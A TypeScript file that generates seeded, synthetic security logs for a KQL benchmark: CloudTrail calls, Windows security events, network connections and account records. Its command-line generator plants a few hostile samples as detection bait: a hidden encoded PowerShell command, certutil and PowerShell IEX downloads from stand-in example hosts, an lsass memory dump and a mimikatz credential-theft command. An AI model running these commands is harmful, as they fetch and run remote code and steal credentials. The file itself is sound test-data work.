/**
 * Logs of a company that does not exist, made for the KQL bench: CloudTrail, Windows security events, connections, and
 * accounts. Seeded: the same rows each time. Shapes follow what such logs hold: a few values are most frequent, command
 * lines and parameters are mostly distinct, ids are unique, times are ascending and unique.
 */
import { builder, schemaOf } from "../../src/table";
import type { Builder, ScalarType, Table } from "../../src/table";

/** Times of all tables: a week from here, in microseconds since 1970. */
export const START = Date.UTC(2026, 0, 5) * 1000;
export const WEEK = 7 * 86_400e6;
/** Ticks of 100 ns between year 1 and 1970. */
export const EPOCH = 621_355_968_000_000_000n;

export interface Tables {
  readonly AWSCloudTrail: Table;
  readonly SecurityEvent: Table;
  readonly DeviceNetworkEvents: Table;
  readonly IdentityInfo: Table;
}

/** mulberry32 with the draws that tables need. */
class Dice {
  constructor(private state: number) {}

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(this.state ^ (this.state >>> 15), this.state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  below(n: number): number {
    return Math.floor(this.next() * n);
  }

  /** The first ones often, the last ones seldom. */
  skewed(n: number): number {
    return Math.floor(n * this.next() ** 3);
  }

  of<T>(list: readonly T[]): T {
    return list[this.below(list.length)]!;
  }

  often<T>(list: readonly T[]): T {
    return list[this.skewed(list.length)]!;
  }

  hex(digits: number): string {
    let text = "";
    while (text.length < digits) text += this.below(0x10000).toString(16).padStart(4, "0");
    return text.slice(0, digits);
  }

  guid(): string {
    return `${this.hex(8)}-${this.hex(4)}-4${this.hex(3)}-a${this.hex(3)}-${this.hex(12)}`;
  }
}

/** A table that is filled row by row. */
class Maker {
  private readonly builders: readonly Builder[];
  private rows = 0;

  constructor(private readonly columns: Readonly<Record<string, ScalarType>>) {
    this.builders = Object.values(columns).map((type) => builder(type));
  }

  row(...cells: readonly (string | number | bigint | boolean | null)[]): void {
    this.rows++;
    this.builders.forEach((b, i) => b.push(cells[i] ?? null));
  }

  table(): Table {
    return { schema: schemaOf(this.columns), batches: [{ length: this.rows, columns: this.builders.map((b) => b.finish()) }] };
  }
}

function times(rows: number, dice: Dice): (row: number) => bigint {
  const step = WEEK / rows;
  return (row) => EPOCH + BigInt(Math.floor(START + row * step + dice.next() * (step - 1))) * 10n;
}

const list = (n: number, of: (i: number) => string): string[] => Array.from({ length: n }, (_, i) => of(i));

/** Everything in the sizes of the bench: a million rows of each log, ten thousand accounts. */
export function makeTables(rows: number): Tables {
  const dice = new Dice(20260105);
  const users = list(10_000, (i) => `${["anna", "ben", "cleo", "dan", "eva", "finn", "gus", "hana", "ivo", "jana"][i % 10]!}.${i.toString(36)}`);
  const hosts = list(4000, (i) => `${["WS", "SRV", "DC", "LT"][i % 4]!}${String(i).padStart(5, "0")}.corp.example`);
  const addresses = list(20_000, (i) => `${10 + (i % 90)}.${(i * 7) % 256}.${(i * 13) % 256}.${(i * 31) % 256}`);
  return {
    AWSCloudTrail: cloudTrail(rows, dice, users, addresses),
    ...windows(rows, dice, users, hosts, addresses),
    IdentityInfo: identities(dice, users),
  };
}

// ---- CloudTrail ----------------------------------------------------------------------------------------------------

const CALLS: readonly (readonly [string, string, boolean])[] = [
  ["AssumeRole", "sts.amazonaws.com", true], ["GetObject", "s3.amazonaws.com", true], ["PutObject", "s3.amazonaws.com", false],
  ["DescribeInstances", "ec2.amazonaws.com", true], ["ListBuckets", "s3.amazonaws.com", true],
  ["GetCallerIdentity", "sts.amazonaws.com", true], ["Decrypt", "kms.amazonaws.com", true],
  ["DescribeSecurityGroups", "ec2.amazonaws.com", true], ["RunInstances", "ec2.amazonaws.com", false],
  ["ConsoleLogin", "signin.amazonaws.com", false], ["GetSecretValue", "secretsmanager.amazonaws.com", true],
  ["CreateAccessKey", "iam.amazonaws.com", false], ["AttachUserPolicy", "iam.amazonaws.com", false],
  ["PutBucketPolicy", "s3.amazonaws.com", false], ["AuthorizeSecurityGroupIngress", "ec2.amazonaws.com", false],
  ["CreateUser", "iam.amazonaws.com", false], ["DeleteTrail", "cloudtrail.amazonaws.com", false],
  ["StopLogging", "cloudtrail.amazonaws.com", false], ["UpdateFunctionCode", "lambda.amazonaws.com", false],
  ["CreateSnapshot", "ec2.amazonaws.com", false], ["ModifySnapshotAttribute", "ec2.amazonaws.com", false],
];
const REGIONS = ["us-east-1", "eu-west-1", "eu-central-1", "us-west-2", "ap-southeast-2", "ap-northeast-1", "sa-east-1"];
const ERRORS = ["AccessDenied", "UnauthorizedOperation", "ThrottlingException", "NoSuchEntity"];
const AGENTS = ["aws-cli/2.15.1 Python/3.11.6 Linux/5.10", "Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux", "aws-sdk-go/1.44.1 (go1.20; linux; amd64)",
  "console.amazonaws.com", "Terraform/1.6.6 (+https://www.terraform.io) terraform-provider-aws/5.31.0", "kali/2024 aws-cli/1.22.3 Python/3.10"];

function cloudTrail(rows: number, dice: Dice, users: readonly string[], addresses: readonly string[]): Table {
  const made = new Maker({
    TimeGenerated: "datetime", EventId: "string", EventName: "string", EventSource: "string", AWSRegion: "string",
    SourceIpAddress: "string", UserAgent: "string", UserIdentityType: "string", UserIdentityArn: "string",
    ErrorCode: "string", ReadOnly: "bool", RequestParameters: "string", Resources: "string",
  });
  const at = times(rows, dice);
  for (let row = 0; row < rows; row++) {
    const [name, source, readOnly] = dice.often(CALLS);
    const user = dice.often(users);
    const type = dice.often(["AssumedRole", "IAMUser", "Root"]);
    const arn = `arn:aws:${type === "AssumedRole" ? "sts" : "iam"}::${100000000000 + dice.skewed(40)}:${type === "AssumedRole" ? "assumed-role/app" : "user"}/${user}`;
    const error = dice.next() < 0.06 ? dice.of(ERRORS) : "";
    const agent = dice.often(AGENTS);
    made.row(at(row), dice.guid(), name, source, dice.often(REGIONS), dice.often(addresses), agent, type, arn, error, readOnly,
      parametersOf(name, user, dice), resourcesOf(name, dice));
  }
  return made.table();
}

function parametersOf(name: string, user: string, dice: Dice): string {
  switch (name) {
    case "GetObject": case "PutObject":
      return `{"bucketName":"${bucket(dice)}","key":"data/${dice.hex(6)}/${dice.below(1000)}.parquet","x-amz-storage-class":"STANDARD","Host":"s3.amazonaws.com"}`;
    case "PutBucketPolicy":
      return `{"bucketName":"${bucket(dice)}","bucketPolicy":{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":"${dice.next() < 0.2 ? "*" : "arn:aws:iam::111111111111:root"}","Action":"s3:GetObject"}]},"policy":""}`;
    case "AttachUserPolicy":
      return `{"userName":"${user}","policyArn":"arn:aws:iam::aws:policy/${dice.often(["ReadOnlyAccess", "PowerUserAccess", "AdministratorAccess", "IAMFullAccess"])}"}`;
    case "RunInstances":
      return `{"instancesSet":{"items":[{"imageId":"ami-${dice.hex(8)}","minCount":1,"maxCount":${1 + dice.skewed(20)}}]},"instanceType":"${dice.often(["t3.micro", "m5.large", "p3.16xlarge"])}","monitoring":{"enabled":false}}`;
    case "AuthorizeSecurityGroupIngress":
      return `{"groupId":"sg-${dice.hex(8)}","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":${dice.of([22, 443, 3389])},"ipRanges":{"items":[{"cidrIp":"${dice.next() < 0.1 ? "0.0.0.0/0" : "10.0.0.0/8"}"}]}}]}}`;
    case "AssumeRole":
      return `{"roleArn":"arn:aws:iam::${100000000000 + dice.skewed(40)}:role/${dice.often(["app", "deploy", "audit", "admin"])}","roleSessionName":"${user}","durationSeconds":3600}`;
    case "CreateUser": case "CreateAccessKey": return `{"userName":"${user}"}`;
    case "DescribeInstances": case "DescribeSecurityGroups": return '{"maxResults":1000,"filterSet":{}}';
    default: return "";
  }
}

function bucket(dice: Dice): string {
  return `${dice.often(["dev", "test", "prod"])}-${dice.often(["logs", "billing", "images", "backup", "ml"])}-${dice.skewed(60)}`;
}

function resourcesOf(name: string, dice: Dice): string {
  if (name === "GetObject" || name === "PutObject") {
    const b = bucket(dice);
    return `[{"type":"AWS::S3::Object","ARN":"arn:aws:s3:::${b}/data"},{"type":"AWS::S3::Bucket","accountId":"111111111111","ARN":"arn:aws:s3:::${b}"}]`;
  }
  if (name === "AssumeRole") return `[{"type":"AWS::IAM::Role","accountId":"${100000000000 + dice.skewed(40)}"}]`;
  return "";
}

// ---- Windows -------------------------------------------------------------------------------------------------------

const PROGRAMS = list(300, (i) => `C:\\Program Files\\${["Contoso", "Fabrikam", "Adatum", "Litware"][i % 4]!}\\app${i}\\bin\\service${i}.exe`);
const SYSTEM = ["svchost.exe", "cmd.exe", "powershell.exe", "conhost.exe", "rundll32.exe", "regsvr32.exe", "wmic.exe", "net.exe", "schtasks.exe", "certutil.exe"];

function windows(
  rows: number, dice: Dice, users: readonly string[], hosts: readonly string[], addresses: readonly string[],
): { SecurityEvent: Table; DeviceNetworkEvents: Table } {
  const events = new Maker({
    TimeGenerated: "datetime", EventID: "int", Computer: "string", Account: "string", TargetUserName: "string",
    IpAddress: "string", LogonType: "int", LogonId: "long", ProcessKey: "string", NewProcessName: "string",
    ParentProcessName: "string", CommandLine: "string",
  });
  const connections = new Maker({
    TimeGenerated: "datetime", Computer: "string", ProcessKey: "string", LogonId: "long", RemoteIP: "string", RemotePort: "int",
    BytesOut: "long",
  });
  const at = times(rows, dice);
  const connected = times(rows, dice);
  for (let row = 0; row < rows; row++) {
    const host = dice.often(hosts);
    const user = dice.often(users);
    const key = dice.guid();
    const id = dice.often([4688, 4624, 4688, 4625, 4634, 4672, 4720, 4732, 1102]);
    // Beyond 32 bits, as logon ids are.
    const logon = 0x3_0000_0000n + BigInt(Math.floor(row / 4));
    const started = id === 4688;
    const program = started ? (dice.next() < 0.5 ? dice.often(PROGRAMS) : `C:\\Windows\\System32\\${dice.often(SYSTEM)}`) : "";
    const time = at(row);
    events.row(time, id, host, `CORP\\${user}`, id === 4625 || id === 4624 ? dice.often(users) : "",
      id === 4625 || id === 4624 ? dice.often(addresses) : "", id === 4624 || id === 4625 ? dice.often([3, 2, 10, 5, 7]) : null, logon,
      started ? key : "", program, started ? `C:\\Windows\\${dice.often(["explorer.exe", "System32\\services.exe", "System32\\cmd.exe"])}` : "",
      started ? commandOf(program, user, dice) : "");
    connections.row(connected(row), host, dice.next() < 0.6 && started ? key : dice.guid(), logon + BigInt(dice.below(400)),
      dice.often(addresses), dice.often([443, 80, 53, 445, 3389, 22, 8080, 4444, 5985]), BigInt(dice.skewed(5_000_000)));
  }
  return { SecurityEvent: events.table(), DeviceNetworkEvents: connections.table() };
}

/** Every second command line is one of many, as they hold paths, ids and times; a few are what rules look for. */
function commandOf(program: string, user: string, dice: Dice): string {
  const odd = dice.next();
  if (odd < 0.0005) return "powershell.exe -nop -w hidden -EncodedCommand " + dice.hex(40);
  if (odd < 0.001) return `cmd.exe /c certutil -urlcache -f http://${dice.hex(6)}.example.net/${dice.hex(4)}.exe C:\\Users\\${user}\\AppData\\Local\\Temp\\a.exe`;
  if (odd < 0.0012) return `procdump64.exe -accepteula -ma lsass.exe C:\\Users\\${user}\\lsass.dmp`;
  if (odd < 0.0013) return "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit";
  if (odd < 0.01) return `powershell.exe -c "IEX (New-Object Net.WebClient).DownloadString('https://${dice.often(["cdn", "files", "git"])}${dice.skewed(50)}.example.com/${dice.hex(6)}')"`;
  if (odd < 0.5) return `"${program}" --session ${dice.hex(8)} --profile C:\\Users\\${user}\\AppData\\Roaming\\app\\${dice.below(100)}.json`;
  if (odd < 0.7) return `"${program}" /netsvcs -p -s ${dice.often(["Schedule", "BITS", "Winmgmt", "wuauserv", "LanmanServer"])} -tick ${dice.skewed(4000)}`;
  return `"${program}" -k ${dice.often(["netsvcs", "LocalService", "NetworkService", "utcsvc"])}`;
}

// ---- accounts ------------------------------------------------------------------------------------------------------

function identities(dice: Dice, users: readonly string[]): Table {
  const made = new Maker({ AccountName: "string", Account: "string", Department: "string", City: "string", RiskScore: "real", IsEnabled: "bool" });
  for (const user of users) {
    made.row(user, `CORP\\${user}`, dice.often(["Sales", "IT", "Finance", "Legal", "HR", "Research"]), dice.often(["Bonn", "Porto", "Oslo", "Graz"]),
      Math.round(dice.next() * 1000) / 10, dice.next() < 0.9);
  }
  return made.table();
}
